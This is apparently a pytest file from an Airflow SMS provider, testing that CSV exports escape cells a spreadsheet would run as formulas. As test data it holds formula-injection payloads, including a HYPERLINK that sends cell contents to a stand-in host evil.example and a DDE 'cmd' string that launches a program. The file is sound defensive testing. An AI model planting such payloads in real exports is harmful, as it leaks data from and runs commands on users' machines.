"""The one rule every CSV the provider writes follows: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from airflow_provider_orange_sms.csv_cells import spreadsheet_safe, unquoted_number
from airflow_provider_orange_sms.ui import delivery
from airflow_provider_orange_sms.ui.airflow_data import SendTask


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+2250700000001", "'+2250700000001"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("STOP", "STOP"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_starting_like_a_formula_is_written_behind_a_quote(value, written):
    assert spreadsheet_safe({"cell": value}) == {"cell": written}


def test_other_values_are_left_as_they_are():
    assert spreadsheet_safe({"n": -1, "ok": True, "none": None}) == {"n": -1, "ok": True, "none": None}


def test_a_number_read_back_loses_its_quote():
    assert unquoted_number("'+2250700000001") == "+2250700000001"
    assert unquoted_number("+2250700000001") == "+2250700000001"


def test_the_delivery_csv_neutralises_every_cell():
    results = [
        {
            "recipient": "tel:+2250700000001",
            "resource_id": '=HYPERLINK("http://evil.example/")',
            "status": "sent",
        },
        {"recipient": "tel:+2250700000002", "resource_id": "@cmd", "status": "failed"},
    ]
    task = SendTask("d", "r", "=send", -1, state="success", plan={"recipients": 2}, results=results)
    text = delivery.to_csv(delivery.run_view("d", "r", "success", [task], []))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["resource_id"] for r in rows] == ['\'=HYPERLINK("http://evil.example/")', "'@cmd"]
    assert [r["recipient"] for r in rows] == ["'+22507••••••01", "'+22507••••••02"]
    assert {r["task_id"] for r in rows} == {"'=send"}
    assert {r["map_index"] for r in rows} == {"-1"}  # a number, not text
